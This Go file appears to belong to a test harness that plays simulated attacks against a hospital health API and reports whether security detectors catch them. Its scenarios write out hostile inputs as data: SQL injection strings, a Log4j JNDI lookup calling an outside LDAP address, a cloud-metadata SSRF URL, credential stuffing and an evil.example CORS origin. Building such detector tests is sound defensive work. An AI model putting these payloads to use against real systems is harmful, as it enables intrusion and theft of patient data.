package main

import (
	"cmp"
	"fmt"
	"math/rand/v2"
	"slices"
	"strconv"

	"auscult/detectors"
	"auscult/detectors/eval/world"
	"auscult/sensor/call"
	"auscult/sensor/clock"
	"auscult/sensor/exposure"
	"auscult/sensor/inject"
	"auscult/sensor/packet"
	"auscult/sensor/phi"
)

// scenario is one attack that another detector than those of walks and counts is for.
type scenario struct {
	name    string
	kinds   []string // of finding that fit
	posture bool     // the finding is on an endpoint: any severity, nobody accused
	plot    func(*plot)
}

// plot is what a scenario puts into a day: calls of a from at on.
type plot struct {
	w    *world.World
	r    *rand.Rand
	look *inject.Reader
	who  int // the account
	at   clock.Time
	from packet.Addr
}

// step adds one call, and lets gap pass.
func (p *plot) step(who, patient int, k world.Kind, gap clock.Time, edit func(*call.Call)) {
	p.w.Add(p.at, who, patient, k, edit)
	p.at += gap + clock.Time(p.r.Int64N(int64(gap)/3+1))
}

// one of the patients, and one of the staff.
func (p *plot) patient() int { return 1 + p.r.IntN(p.w.Top()) }
func (p *plot) staff() int   { return p.r.IntN(p.w.Staff()) }

// outside makes a call come from the attacker's address.
func (p *plot) outside(c *call.Call, agent string) {
	c.Client.Addr, c.UserAgent, c.Secure.JA4, c.Conn = p.from, agent, "t13i1010h1_61a7ad8aa9b6_3a8073edd8ef", 0xbad
	if c.Principal.Kind == call.Address {
		c.Principal = p.address()
	}
}

func (p *plot) address() call.Principal {
	return call.Principal{Key: 0xbad00 | uint64(p.from[15]), Kind: call.Address, ID: p.from.IP().String(), Strength: 20}
}

// login edits an attempt: who tries which secret, and how it ends.
func (p *plot) login(user string, secret uint64, status int) func(*call.Call) {
	return func(c *call.Call) {
		p.outside(c, "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0")
		c.User, c.Auth.Secret = user, secret
		for i := range c.Args {
			if c.Args[i].Name == "username" {
				c.Args[i].Text, c.Args[i].Value, c.Args[i].Len = user, uint64(len(user))<<32^secret, len(user)
			}
		}
		if status != 200 {
			refuse(c, status)
			c.Issued, c.Handed, c.Flags = nil, nil, c.Flags&^call.Token
		}
	}
}

// with replaces the text of the last argument.
func (p *plot) with(text string, edit func(*call.Call)) func(*call.Call) {
	return func(c *call.Call) {
		for i := range c.Args {
			if a := &c.Args[i]; a.Name == "name" || a.Name == "text" {
				a.Text, a.Len, a.Value, a.Look = text[:min(64, len(text))], len(text), uint64(len(text))<<40^uint64(text[0])<<8^uint64(text[len(text)-1]), p.look.Look([]byte(text))
			}
		}
		if edit != nil {
			edit(c)
		}
	}
}

const requests = "python-requests/2.31.0"

var scenarios = []scenario{
	{"patients read without a credential", []string{"missing_auth"}, false, func(p *plot) {
		for range 20 {
			p.step(p.who, p.patient(), world.ChartOpen, 2*world.Second, func(c *call.Call) {
				c.Principal, c.Auth = p.address(), call.Auth{}
				p.outside(c, requests)
			})
		}
	}},
	{"token with alg none", []string{"weak_token"}, false, func(p *plot) {
		for range 10 {
			p.step(p.who, p.patient(), world.ChartOpen, 3*world.Second, func(c *call.Call) {
				c.Principal.Kind, c.Principal.Token = call.JWT, 0xdead
				c.Auth = call.Auth{Scheme: call.Bearer, Marks: call.AlgNone | call.Unsigned, Issued: c.Time}
			})
		}
	}},
	{"expired token taken", []string{"weak_token"}, false, func(p *plot) {
		for range 10 {
			p.step(p.who, p.patient(), world.ChartOpen, 30*world.Second, func(c *call.Call) {
				c.Principal.Kind, c.Principal.Token, c.Principal.Expires = call.JWT, 0xdeae, c.Time-3*world.Hour
				c.Auth = call.Auth{Scheme: call.Bearer, Marks: call.Expired, Issued: c.Time - 9*world.Hour}
			})
		}
	}},
	{"stolen token beside its owner", []string{"token_reuse"}, false, func(p *plot) {
		patient := p.patient()
		for i := range 40 {
			p.step(p.who, patient, world.Results, 20*world.Second, func(c *call.Call) {
				if i%2 == 1 {
					p.outside(c, requests)
				}
			})
		}
	}},
	{"credential stuffing", []string{"auth_bruteforce"}, false, func(p *plot) {
		for i := range 60 {
			p.step(p.staff(), 0, world.SignIn, 2*world.Second, p.login("leak"+strconv.Itoa(i*7), uint64(1000+i), 401))
		}
	}},
	{"password spraying", []string{"auth_bruteforce"}, false, func(p *plot) {
		for range 40 {
			who := p.staff()
			p.step(who, 0, world.SignIn, 20*world.Second, p.login(p.w.People[who].Who.ID, 0x5ec2e7, 401))
		}
	}},
	{"one password guessed", []string{"auth_bruteforce"}, false, func(p *plot) {
		for i := range 60 {
			p.step(p.who, 0, world.SignIn, 2*world.Second, p.login(p.w.People[p.who].Who.ID, uint64(77+i), 401))
		}
	}},
	{"default credentials", []string{"default_credentials"}, false, func(p *plot) {
		p.step(p.who, 0, world.SignIn, world.Second, func(c *call.Call) {
			p.login("admin", 0xadadad, 200)(c)
			c.Auth.Marks |= call.VendorPair
		})
	}},
	{"accounts told by a reset form", []string{"account_oracle", "auth_bruteforce"}, false, func(p *plot) {
		for i := range 60 {
			status := 200
			if i%4 != 0 {
				status = 404
			}
			p.step(p.staff(), 0, world.ResetPassword, 2*world.Second, p.login("guess"+strconv.Itoa(i*13), 0, status))
		}
	}},
	{"SQL injection, errors shown", []string{"injection"}, false, func(p *plot) {
		for i := range 60 {
			text := []string{"'", "') AND 4523=4523-- -", "1' UNION ALL SELECT NULL,NULL-- -", "' AND SLEEP(5)-- -", "x' OR '1'='1"}[i%5]
			p.step(p.who, 1, world.NameSearch, world.Second, p.with(text, func(c *call.Call) {
				if i%2 == 0 {
					refuse(c, 500)
					c.Answer.Set, c.Answer.Product = exposure.DatabaseError, "PostgreSQL"
				}
			}))
		}
	}},
	{"SQL injection, blind", []string{"injection"}, false, func(p *plot) {
		for i := range 60 {
			text := []string{"Smith') AND 4523=4523-- -", "Smith') AND 4523=4524-- -", "Smith' AND (SELECT 1 FROM PG_SLEEP(5))-- -"}[i%3]
			p.step(p.who, 1, world.NameSearch, world.Second, p.with(text, nil))
		}
	}},
	{"lookup of Log4j", []string{"injection"}, false, func(p *plot) {
		p.step(p.who, p.patient(), world.Vitals, world.Second, p.with("${jndi:ldap://198.51.100.7/a}", nil))
	}},
	{"server-side request to metadata", []string{"ssrf_param"}, false, func(p *plot) {
		p.step(p.who, p.patient(), world.Vitals, world.Second, p.with("http://169.254.169.254/latest/meta-data/iam", nil))
	}},
	{"nurse uses functions of administrators", []string{"bfla"}, false, func(p *plot) {
		for i := range 9 {
			p.step(p.who, 0, []world.Kind{world.AdminUsers, world.AdminUser, world.AdminEdit}[i%3], 20*world.Second, nil)
		}
	}},
	{"portal user reads others", []string{"patient_context_mismatch", "bola_fanout"}, false, func(p *plot) {
		p.who = slices.IndexFunc(p.w.People, func(x *world.Person) bool { return x.Role == world.Patient })
		for range 10 {
			p.step(p.who, p.patient(), world.ChartOpen, 10*world.Second, nil)
		}
	}},
	{"nurse breaks the glass", []string{"break_glass_abuse"}, false, func(p *plot) {
		for range 12 {
			p.step(p.who, p.patient(), world.Emergency, 4*world.Minute, nil)
		}
	}},
	{"records deleted in a row", []string{"bulk_write_delete"}, false, func(p *plot) {
		for range 60 {
			p.step(p.who, p.patient(), world.Record, 3*world.Second, func(c *call.Call) {
				refuse(c, 204)
				c.Method, c.FHIR.Interaction, c.Endpoint = "DELETE", "delete", c.Endpoint^0xde1e7e
			})
		}
	}},
	{"appointments grabbed", []string{"business_flow_abuse", "resource_exhaustion"}, false, func(p *plot) {
		for range 80 {
			p.step(p.who, p.patient(), world.Book, world.Second, nil)
		}
	}},
	{"health data to an address outside", []string{"exfil_destination", "bola_fanout", "low_slow_scrape", "token_reuse"}, false, func(p *plot) {
		for i := range 12 {
			p.step(p.who, i, world.CohortPage, 20*world.Second, func(c *call.Call) { p.outside(c, requests) })
		}
	}},
	{"one endpoint hammered", []string{"resource_exhaustion"}, false, func(p *plot) {
		for range 1500 {
			p.step(p.who, 0, world.Inbox, world.Second/25, nil)
		}
	}},
	{"word list of paths", []string{"recon_probe"}, false, func(p *plot) {
		for i := range 60 {
			p.step(p.who, 0, world.Probe, world.Second, func(c *call.Call) {
				p.outside(c, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36")
				c.Principal, c.Auth = p.address(), call.Auth{}
				c.Path = "/" + []string{"backup", "test", "old", "api", "dev", "tmp", "data"}[i%7] + strconv.Itoa(i)
				c.Target = c.Path
			})
		}
	}},
	{"records guessed and refused", []string{"recon_probe", "sequential_enumeration"}, false, func(p *plot) {
		for range 60 {
			p.step(p.who, p.patient(), world.ChartOpen, 2*world.Second, func(c *call.Call) { refuse(c, 404) })
		}
	}},
	{"one answer with sixty patients", []string{"oversized_phi", "bulk_export"}, false, func(p *plot) {
		p.step(p.who, p.patient(), world.ChartOpen, world.Second, func(c *call.Call) { c.PHI.People, c.PHI.Records = 60, 60 })
	}},
	{"bulk export by a person", []string{"bulk_export", "oversized_phi"}, false, func(p *plot) {
		p.step(p.who, 1, world.CohortPage, world.Second, func(c *call.Call) {
			c.Path, c.Target, c.Query, c.Route, c.Endpoint = "/fhir/$export", "/fhir/$export", "", "/fhir/$export", 0xe4b027
			c.FHIR = call.FHIR{Interaction: "operation", Operation: "$export"}
			c.Flags = call.Bulk | call.HealthAPI
		})
	}},
	{"stack trace shown", []string{"verbose_error"}, true, func(p *plot) {
		p.step(p.who, p.patient(), world.ChartOpen, world.Second, func(c *call.Call) {
			refuse(c, 500)
			c.Answer.Set, c.Answer.Product = exposure.StackTrace, "Java"
		})
	}},
	{"any origin may read", []string{"cors_misconfig"}, true, func(p *plot) {
		for _, origin := range []string{"https://evil.example", "https://shop.test", "https://a.invalid"} {
			p.step(p.who, p.patient(), world.ChartOpen, world.Second, func(c *call.Call) {
				c.Answer.CORS, c.Answer.Origin = call.Reflected|call.WithCredents, origin
			})
		}
	}},
	{"password hashes in an answer", []string{"excess_property"}, true, func(p *plot) {
		for range 5 {
			p.step(p.staff(), p.patient(), world.Account, world.Second, func(c *call.Call) {
				c.PHI.Classes |= phi.Credential
				c.Answer.Props = append(slices.Clone(c.Answer.Props), call.Prop{Key: 0x9a55, Name: "passwordHash", Class: phi.Credential})
			})
		}
	}},
	{"configuration behind an actuator", []string{"exposed_management"}, true, func(p *plot) {
		p.step(p.who, 0, world.Inbox, world.Second, func(c *call.Call) {
			c.Path, c.Target, c.Route, c.Endpoint = "/actuator/env", "/actuator/env", "/actuator/env", 0xac7
			c.Flags |= call.Operator
			c.Answer.Set = exposure.Management | exposure.Configuration
		})
	}},
}

// outcome is what became of a scenario's replicates.
type outcome struct {
	found   int
	calls   []int // attack calls until it was found
	other   tally // kinds at Medium or more on the attacker that do not fit
	accused tally // kinds at Medium or more on anyone else
}

// play makes a scenario once, on the third day of a hospital of 150.
func (sc *scenario) play(seed uint64, out *outcome) {
	cfg := world.Default(seed)
	cfg.People, cfg.Patients = 150, 30_000
	s := newSite(cfg, detectors.Defaults())
	for range 2 {
		s.day(nil)
	}
	r := rand.New(rand.NewPCG(seed, 7))
	p := &plot{w: s.world, r: r, look: inject.New(), from: packet.Addr{10: 0xff, 11: 0xff, 12: 203, 13: 0, 14: 113, 15: byte(1 + seed%200)}}
	for p.who = r.IntN(s.world.Staff()); s.world.People[p.who].Role != world.Nurse; {
		p.who = (p.who + 1) % s.world.Staff()
	}
	p.at = world.Epoch + 2*world.Day + 9*world.Hour + clock.Time(r.Int64N(int64(4*world.Hour)))
	sc.plot(p)
	key, client := s.world.People[p.who].Who.Key, p.from.IP().String()
	n, at := 0, 0
	s.day(func(k *call.Call, m world.Mark, _ []incident) {
		if m.Tag == world.Attack {
			n++
		}
		for i := range s.signals {
			sig := &s.signals[i]
			fits := slices.Contains(sc.kinds, sig.Detector)
			mine := sig.Principal.Key == key || sig.Principal.Key == p.address().Key || sig.Client == client && m.Tag == world.Attack
			switch {
			case n > 0 && fits && (sc.posture || mine && sig.Severity >= detectors.Medium):
				if at == 0 {
					at = n
				}
			case sig.Severity < detectors.Medium || sig.Principal.ID == world.Allowed:
			case mine:
				out.other.add(sig.Detector)
			default:
				out.accused.add(sig.Detector)
			}
		}
		s.signals = s.signals[:0]
	})
	if at > 0 {
		out.found++
		out.calls = append(out.calls, at)
	}
}

// scenarioReport makes each scenario n times.
func scenarioReport(r *runner, n int, seed uint64, command string) string {
	outcomes := make([]outcome, len(scenarios))
	r.each("scenarios", len(scenarios), func(i int) string {
		for k := range n {
			scenarios[i].play(seed+uint64(k), &outcomes[i])
		}
		return fmt.Sprintf("%s: %d of %d", scenarios[i].name, outcomes[i].found, n)
	})
	var d document
	d.title("One attack of every other kind", command)
	d.text("Each made %d times on the third day of a hospital of 150, by a nurse's account or from an address outside. Found: by a finding of a fitting kind on the attacker of severity Medium or more, or, of endpoints, any.", n)
	d.table("attack", "fitting kinds", "found", "calls until found: median", "worst", "other kinds on the attacker", "on others")
	for i := range scenarios {
		o := &outcomes[i]
		slices.Sort(o.calls)
		median, worst := "–", "–"
		if len(o.calls) > 0 {
			median, worst = strconv.Itoa(o.calls[len(o.calls)/2]), strconv.Itoa(o.calls[len(o.calls)-1])
		}
		d.row(scenarios[i].name, scenarios[i].kinds, fmt.Sprintf("%d of %d", o.found, n), median, worst, o.other.brief(), o.accused.brief())
	}
	return d.String()
}

// brief is the counts in one line.
func (t *tally) brief() string {
	text := ""
	for _, name := range t.sorted() {
		text += fmt.Sprintf("%s %d ", name, t.counts[name])
	}
	return cmp.Or(text, "–")
}
